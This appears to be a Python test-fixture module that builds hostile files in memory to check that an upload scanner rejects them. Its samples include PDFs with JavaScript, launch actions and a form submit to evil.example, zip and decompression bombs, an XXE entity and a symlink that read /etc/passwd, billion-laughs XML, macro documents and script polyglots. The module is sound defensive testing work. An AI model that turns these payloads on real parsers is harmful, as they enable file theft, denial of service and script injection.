"""What must not come in: the bytes of bad files, made on the spot so that none is kept anywhere."""

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf

from tests.documents.files import a_docx, a_jpeg, a_pdf, a_png, body, rels, zipped

# The test file every scanner knows, in two halves so that this file is not one.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + rb"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(document.cookie)</script>"
GIF_AND_SCRIPT = b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1);"
NAME = pikepdf.Name
ZEROS = 200_000_000


def _acting(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    return a_pdf(change=change)


def script(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=NAME.JavaScript, JS="app.alert('CanaryScript')")
    made.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(
            Names=["x", made.make_indirect(pikepdf.Dictionary(S=NAME.JavaScript, JS="CanaryScript()"))]
        )
    )


def launch(made: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=NAME.Launch, F="CanaryProgram.exe")
    made.pages[0].obj.AA = pikepdf.Dictionary(O=action)
    link = pikepdf.Dictionary(Type=NAME.Annot, Subtype=NAME.Link, Rect=[0, 0, 200, 200], A=action)
    made.pages[0].obj.Annots = pikepdf.Array([made.make_indirect(link)])


def attach(made: pikepdf.Pdf) -> None:
    made.attachments["CanaryAttached.exe"] = b"MZ CanaryAttached"


def attach_hidden(made: pikepdf.Pdf) -> None:
    """A file tied to the page's own resources, where a rebuilt page would carry it along."""
    stream = made.make_stream(b"MZ CanaryAttached", Type=NAME.EmbeddedFile)
    made.pages[0].obj.Resources.XObject = pikepdf.Dictionary(X=stream)


def fetch(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.Resources.XObject = pikepdf.Dictionary(
        X=made.make_stream(b"", Subtype=NAME.Form, F="//evil.example/x")
    )


def hidden_script(made: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=NAME.JavaScript, JS="CanaryScript()")
    made.pages[0].obj.Resources.Properties = pikepdf.Dictionary(X=made.make_indirect(action))


def submit(made: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=NAME.SubmitForm, F="https://evil.example/CanaryScript")
    field = pikepdf.Dictionary(Type=NAME.Annot, Subtype=NAME.Widget, FT=NAME.Btn, T="x", Rect=[0, 0, 9, 9], A=action)
    made.pages[0].obj.Annots = pikepdf.Array([made.make_indirect(field)])
    made.Root.AcroForm = pikepdf.Dictionary(Fields=made.pages[0].obj.Annots, XFA="CanaryScript")


def metadata(made: pikepdf.Pdf) -> None:
    with made.open_metadata() as said:
        said["dc:creator"] = ["CanaryAuthor"]
    made.docinfo["/Author"] = "CanaryAuthor"
    made.pages[0].obj.PieceInfo = pikepdf.Dictionary(X="CanaryAuthor")
    picture = made.make_stream(a_jpeg(comment=b"CanaryNote"), Subtype=NAME.Image, Width=40, Height=30)
    picture.Filter, picture.ColorSpace, picture.BitsPerComponent = NAME.DCTDecode, NAME.DeviceRGB, 8
    picture.Metadata = made.make_stream(b"CanaryPlace")
    made.pages[0].obj.Resources.XObject = pikepdf.Dictionary(A=picture)


def bomb(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.Contents.write(zlib.compress(b"\0" * ZEROS), filter=NAME.FlateDecode)


def packed_twice() -> bytes:
    """A page whose content is packed twice over, written as it is."""

    def pack(made: pikepdf.Pdf) -> None:
        filters = pikepdf.Array([NAME.FlateDecode, NAME.FlateDecode])
        made.pages[0].obj.Contents.write(zlib.compress(zlib.compress(b"\0" * 10_000_000)), filter=filters)

    return a_pdf(change=pack, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def a_bomb_of_objects() -> bytes:
    """A PDF whose list of objects unpacks to a great deal before anything else can be read."""
    packed = zlib.compress(b"1 0 " + b" " * ZEROS)
    start = (
        b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 9 0 R>>endobj\n"
    )
    listed = b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed) + packed
    listed += b"\nendstream endobj\n"
    places = {number: start.index(b"%d 0 obj" % number) for number in (1, 2, 3)}
    places |= {5: len(start), 6: len(start) + len(listed)}
    rows = b"".join(
        struct.pack(">BIH", 2, 5, 0) if number == 9 else struct.pack(">BIH", number in places, places.get(number, 0), 0)
        for number in range(10)
    )
    end = b"6 0 obj<</Type/XRef/Size 10/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % len(rows) + rows
    return start + listed + end + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % places[6]


def locked() -> bytes:
    return a_pdf(encryption=pikepdf.Encryption(user="secret", owner="owner"))


def a_zip_bomb() -> bytes:
    return a_docx({"word/media/image3.emf": b"\0" * 70_000_000})


def a_lying_zip() -> bytes:
    """A million entries, says the end of the directory."""
    whole = bytearray(a_docx())
    at = whole.rfind(b"PK\x05\x06")
    whole[at + 8 : at + 20] = struct.pack("<HHII", 65_535, 65_535, 2**32 - 1, 2**32 - 1)
    return bytes(whole)


def many_entries(number: int = 2_000) -> bytes:
    return a_docx({f"word/part{index}.xml": "<a/>" for index in range(number)})


def with_entry(name: str, data: bytes = b"x", mode: int = 0, flags: int = 0) -> bytes:
    """A Word document with one more entry as a program never writes it."""
    written = io.BytesIO(a_docx())
    with zipfile.ZipFile(written, "a") as archive:
        entry = zipfile.ZipInfo(name)
        entry.external_attr = mode << 16
        archive.writestr(entry, data)
    whole = bytearray(written.getvalue())
    if flags:
        at = whole.rfind(b"PK\x01\x02")
        whole[at + 8] |= flags
    return bytes(whole)


def a_symlink() -> bytes:
    return with_entry("word/link.xml", b"/etc/passwd", mode=stat.S_IFLNK | 0o777)


def twice_the_same_name() -> bytes:
    written = io.BytesIO(a_docx())
    with zipfile.ZipFile(written, "a") as archive:
        archive.writestr("word/documenu.xml", "<evil/>")
    return written.getvalue().replace(b"word/documenu.xml", b"word/document.xml")


def a_field(words: str) -> bytes:
    """A Word document with a field, its instruction in two runs as programs that hide it write it."""
    half = len(words) // 2
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (words[:half], words[half:]))
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return a_docx({"word/document.xml": body(begin + runs + end)})


def related(kind: str, target: str, mode: str = "") -> bytes:
    return a_docx({"word/_rels/document.xml.rels": rels((kind, target, mode))})


def a_doctype(encoding: str = "utf-8") -> bytes:
    words = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + body("<w:t>&x;</w:t>").partition("?>")[2]
    declared = f'<?xml version="1.0" encoding="{encoding}"?>' + words
    return a_docx({"word/document.xml": declared.encode(encoding)})


def laughs() -> bytes:
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return a_docx({"word/document.xml": f'<!DOCTYPE w [<!ENTITY l0 "ha">{lines}]><w>&l9;</w>'})


def with_macros() -> bytes:
    types = a_docx_types().replace("document.main+xml", "document.macroEnabled.main+xml")
    return a_docx({"[Content_Types].xml": types, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def a_docx_types() -> str:
    with zipfile.ZipFile(io.BytesIO(a_docx())) as archive:
        return archive.read("[Content_Types].xml").decode()


def a_nested_zip(depth: int = 3) -> bytes:
    inner: bytes = zipped({"a.txt": "x"})
    for _ in range(depth):
        inner = zipped({"inner.zip": inner})
    return inner


def with_parts(**parts: Any) -> bytes:
    return a_docx({name.replace("__", "/").replace("_dot_", "."): data for name, data in parts.items()})


def a_jpeg_that_claims(width: int, height: int) -> bytes:
    """A small JPEG whose frame says that the picture is huge."""
    whole = bytearray(a_jpeg())
    at = whole.index(b"\xff\xc0")
    whole[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(whole)


PDF_AND_ZIP = a_pdf() + zipped({"evil.html": HTML}, zipfile.ZIP_STORED)
JPEG_AND_HTML = a_jpeg(comment=HTML) + HTML
JPEG_AND_ZIP = a_jpeg() + zipped({"evil.js": "alert(1)"}, zipfile.ZIP_STORED)
PNG_AND_SCRIPT = a_png() + GIF_AND_SCRIPT
